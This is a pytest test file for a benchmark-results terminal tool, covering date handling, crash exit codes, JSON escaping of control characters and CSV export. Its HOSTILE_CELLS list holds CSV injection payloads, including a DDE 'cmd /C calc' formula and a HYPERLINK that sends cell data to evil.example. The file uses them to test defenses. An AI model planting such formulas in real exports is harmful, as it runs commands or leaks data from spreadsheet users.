"""Values from hostile result folders: dates, exit status, CSV cells, sizes, ranges, JSON output.

Each test builds the hostile input in tmp_path with the format builders of tests/fixtures.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bench_tui import cli
from bench_tui.analysis.regressions import run_series
from bench_tui.model import Execution, Run
from bench_tui.model.dates import date_order
from bench_tui.report import render_export
from bench_tui.sources.discover import discover_workspace
from bench_tui.tui.app import BenchApp
from bench_tui.tui.screens.benchmarks import newest_first
from bench_tui.tui.widgets.virtual_table import VirtualTable
from tests.fixtures.compare_builders import openadapt_run
from tests.fixtures.openadapt_builders import write_json
from tests.fixtures.osworld_builders import osworld_line, write_jsonl, write_text
from tests.fixtures.pilot import plain
from tests.fixtures.web_builders import write_summary

SRC = Path(__file__).resolve().parent.parent / "src"


@pytest.fixture
def far_east_clock() -> Iterator[None]:
    """A zone east of UTC: there `datetime.timestamp()` raises for the first and last days."""
    before = os.environ.get("TZ")
    os.environ["TZ"] = "Asia/Tokyo"
    time.tzset()
    try:
        yield
    finally:
        if before is None:
            del os.environ["TZ"]
        else:
            os.environ["TZ"] = before
        time.tzset()


# ----- 9: runs without a date, and the exit status of a crash -----------------------------------


def _dateless_workspace(root: Path) -> Path:
    openadapt_run(root, "no-date", {"a": "pass"}, created_at=None)
    openadapt_run(root, "bad-date", {"a": "pass"}, created_at="the day after tomorrow")
    openadapt_run(root, "first-day", {"a": "fail"}, created_at="0001-01-01T00:00:00")
    openadapt_run(root, "last-day", {"a": "fail"}, created_at="9999-12-31T23:59:59")
    openadapt_run(root, "dated", {"a": "pass"}, created_at="2025-11-04T09:15:22")
    write_text(root / "osworld" / "m" / "chrome" / "task-1" / "result.txt", "1.0\n")
    return root


async def test_runs_without_a_date_are_listed_last(tmp_path: Path, far_east_clock: None) -> None:
    root = _dateless_workspace(tmp_path)
    app = BenchApp(root, images="none")
    async with app.run_test(size=(160, 48)) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        table = app.query_one("#runs-table", VirtualTable)
        keys = [row.key for row in table.rows]
        dates = {row.key: plain(row.cells[6]) for row in table.rows}
    assert keys[:3] == ["last-day", "dated", "first-day"]
    assert set(keys[3:]) == {"no-date", "bad-date", "osworld/m"}
    assert dates["no-date"] == dates["bad-date"] == dates["osworld/m"] == "—"


def test_an_unparseable_created_at_is_a_located_problem(tmp_path: Path) -> None:
    root = _dateless_workspace(tmp_path)
    workspace = discover_workspace(root)
    runs = {run.id: run for run in workspace.runs}
    assert runs["bad-date"].created_at is None
    assert runs["no-date"].created_at is None
    about_dates = [p for p in workspace.problems if "date" in p.message]
    assert [(p.path, p.line) for p in about_dates] == [("bad-date/metadata.json", 5)]
    assert "the day after tomorrow" in about_dates[0].message


def test_date_order_never_raises_and_orders_zones_by_utc(far_east_clock: None) -> None:
    first, last = datetime(1, 1, 1), datetime(9999, 12, 31, 23, 59, 59)
    assert date_order(first) < date_order(datetime(2025, 1, 1)) < date_order(last)
    plus_one = datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=1)))
    assert date_order(plus_one) == date_order(first) - 3600
    noon_utc = datetime(2025, 1, 1, 12, tzinfo=UTC)
    assert date_order(noon_utc) == date_order(datetime(2025, 1, 1, 12))


def test_newest_first_and_series_order_accept_any_date(far_east_clock: None) -> None:
    def run(name: str, created: datetime | None) -> Run:
        return Run(
            id=name,
            path=f"/r/{name}",
            format="openadapt",
            label=name,
            created_at=created,
            executions=[Execution(task_id="t", model="m")],
        )

    runs = [
        run("none", None),
        run("first", datetime(1, 1, 1)),
        run("aware", datetime(2025, 1, 1, tzinfo=UTC)),
        run("last", datetime(9999, 12, 31)),
    ]
    assert [r.id for r in sorted(runs, key=newest_first)] == ["last", "aware", "first", "none"]
    assert [r.id for r in run_series(runs)[(None, "m")]] == ["first", "aware", "last", "none"]


def test_the_app_exits_non_zero_when_it_crashes(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    # A piece of the app that fails: the exit status must say so (Textual prints the
    # traceback and returns normally from App.run).
    script = (
        "import sys\n"
        "import bench_tui.tui.app as app_module\n"
        "def compose(self):\n"
        "    raise RuntimeError('deliberate failure')\n"
        "app_module.BenchApp.compose = compose\n"
        "from bench_tui.cli import main\n"
        "sys.argv = ['bench-tui', '--images=none', sys.argv[1]]\n"
        "main()\n"
    )
    env = {
        **os.environ,
        "PYTHONPATH": str(SRC),
        "TEXTUAL_DRIVER": "textual.drivers.headless_driver:HeadlessDriver",
    }
    result = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "empty")],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert "deliberate failure" in result.stdout + result.stderr
    assert result.returncode == 1


def test_a_cli_command_exits_non_zero_on_an_unexpected_exception(tmp_path: Path) -> None:
    script = (
        "import sys\n"
        "import bench_tui.cli as cli\n"
        "def discover(path):\n"
        "    raise RuntimeError('deliberate failure')\n"
        "cli.discover_workspace = discover\n"
        "sys.argv = ['bench-tui', 'summary', '--json', sys.argv[1]]\n"
        "cli.main()\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(SRC)},
        timeout=60,
    )
    assert "deliberate failure" in result.stderr
    assert result.returncode == 1


def test_impossible_dates_in_folder_names_and_timestamps_are_problems(tmp_path: Path) -> None:
    study = tmp_path / "2025-13-45_99-00-00_study"
    episode = study / "2025-02-30_10-00-00_Agent_on_miniwob.click-button_1"
    episode.mkdir(parents=True)
    write_summary(episode, n_steps=1, cum_reward=1.0, err_msg=None, terminated=True)
    lines = [
        osworld_line(1, "00000000@000000", "pyautogui.click(1, 1)"),
        osworld_line(2, "20251103@101502", "pyautogui.click(2, 2)"),
        osworld_line(3, "20251103@101509", "pyautogui.click(3, 3)"),
        osworld_line(4, "20251399@101502", "DONE"),
    ]
    episode_dir = tmp_path / "osworld" / "m" / "chrome" / "task-1"
    write_jsonl(episode_dir / "traj.jsonl", lines)
    write_text(episode_dir / "result.txt", "1.0\n")
    workspace = discover_workspace(tmp_path)
    runs = {run.id: run for run in workspace.runs}
    assert runs[study.name].created_at is None
    assert runs["osworld/m"].created_at == datetime(2025, 11, 3, 10, 15, 2)
    assert runs["osworld/m"].executions[0].duration_s == 7.0
    located = sorted((p.path, p.line) for p in workspace.problems if "date" in p.message)
    assert located == [
        (study.name, None),
        (f"{study.name}/{episode.name}", None),
        ("osworld/m/chrome/task-1/traj.jsonl", 1),
        ("osworld/m/chrome/task-1/traj.jsonl", 4),
    ]


# ----- 15: C1 controls and line separators in JSON output ---------------------------------------

UNSAFE_IN_JSON = "\x7f\x85\x9b\u2028\u2029"
"""DEL, NEL, 8-bit CSI and the two Unicode line separators: raw, they move a terminal's cursor
or break a line in a JavaScript reader of the output."""


def _raw_encodings() -> list[bytes]:
    characters = [chr(code) for code in range(0x7F, 0xA0)] + ["\u2028", "\u2029"]
    return [character.encode() for character in characters]


@pytest.fixture
def c1_workspace(tmp_path: Path) -> Path:
    hostile = f"t{UNSAFE_IN_JSON}é"
    errors = {hostile: f"boom{UNSAFE_IN_JSON}", "lone": "half a pair: \ud800"}
    outcomes = {hostile: "pass", "lone": "fail", "broken": "error"}
    openadapt_run(tmp_path, f"run{UNSAFE_IN_JSON}é", outcomes, errors=errors)
    newer = {hostile: "fail", "lone": "fail", "broken": "error"}
    openadapt_run(tmp_path, "newer", newer, created_at="2025-12-01T00:00:00")
    return tmp_path


@pytest.mark.parametrize(
    "command",
    [
        ["summary", "--json"],
        ["validate", "--json"],
        ["export", "--format", "json"],
        ["compare", "--json"],
    ],
)
def test_json_output_escapes_c1_controls_and_line_separators(
    c1_workspace: Path, command: list[str]
) -> None:
    run = c1_workspace / f"run{UNSAFE_IN_JSON}é"
    if command[0] == "compare":
        args = [*command, str(run), str(c1_workspace / "newer")]
    else:
        args = [*command, str(c1_workspace)]
    result = CliRunner().invoke(cli.app, args)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    raw = result.stdout_bytes
    assert [code for code in _raw_encodings() if code in raw] == []
    assert b"\\u009b" in raw
    assert "é".encode() in raw  # other non-ASCII stays as it is
    assert UNSAFE_IN_JSON in json.dumps(json.loads(raw), ensure_ascii=False)


def test_export_json_file_escapes_c1_controls(c1_workspace: Path, tmp_path: Path) -> None:
    out = tmp_path / "rows.json"
    result = CliRunner().invoke(
        cli.app, ["export", str(c1_workspace), "--format", "json", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert [code for code in _raw_encodings() if code in raw] == []
    rows = json.loads(raw)
    assert {row["error"] for row in rows} >= {f"boom{UNSAFE_IN_JSON}", "half a pair: \ud800"}


# ----- 11: CSV injection --------------------------------------------------------------------------

HOSTILE_CELLS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
    "bare\rcarriage return",
    "line\nbreak",
    'a "quoted" word',
    "comma, inside",
    "nul\x00byte",
    "escape\x1b[2Jsequence",
    "c1\x9bcsi and del\x7f",
    "plain text",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_csv_workspace(root: Path) -> Path:
    outcomes = {f"t{index:02d}": "fail" for index in range(len(HOSTILE_CELLS))}
    errors = {f"t{index:02d}": text for index, text in enumerate(HOSTILE_CELLS)}
    run = openadapt_run(root, "run", outcomes, errors=errors)
    for index, text in enumerate(HOSTILE_CELLS):
        task = {"task_id": f"{text} #{index}", "domain": text, "instruction": "x"}
        write_json(run / "tasks" / f"t{index:02d}" / "task.json", task)
    return root


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_csv(text: str, data_rows: int) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == data_rows + 1
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)] == []
    controls = [c for c in "".join(cells) if c not in "\t\r\n" and unicodedata.category(c) == "Cc"]
    assert controls == []
    return rows


def test_export_csv_defuses_formulas_and_keeps_one_row_per_task(tmp_path: Path) -> None:
    root = _hostile_csv_workspace(tmp_path)
    result = CliRunner().invoke(cli.app, ["export", str(root), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _check_csv(result.stdout_bytes.decode(), len(HOSTILE_CELLS))
    header = rows[0]
    by_task = {row[header.index("task_id")]: row for row in rows[1:]}
    assert by_task["'=cmd|' /C calc'!A0 #0"][header.index("domain")] == "'=cmd|' /C calc'!A0"
    errors = {row[header.index("error")] for row in rows[1:]}
    assert {"'\rleading carriage return", "bare\rcarriage return", "line\nbreak"} <= errors
    assert {"'\tleading tab", 'a "quoted" word', "comma, inside", "plain text"} <= errors
    assert {"nul\\x00byte", "escape\\x1b[2Jsequence", "c1\\x9bcsi and del\\x7f"} <= errors


def test_csv_keeps_numbers_the_tool_formatted() -> None:
    rows = [
        {"run": "-r", "task_id": "@t", "score": -2.5, "steps": -3, "success": False, "labels": []},
        {"run": "r", "task_id": "t", "score": 0.5, "labels": ["=bad", "ok"], "note": "\ud800"},
    ]
    parsed = _check_csv(render_export(rows, "csv"), 2)
    header = parsed[0]
    first, second = (dict(zip(header, row, strict=True)) for row in parsed[1:])
    assert (first["run"], first["task_id"], first["score"], first["steps"]) == (
        "'-r",
        "'@t",
        "-2.5",
        "-3",
    )
    assert (second["labels"], second["note"]) == ("'=bad;ok", "\\ud800")
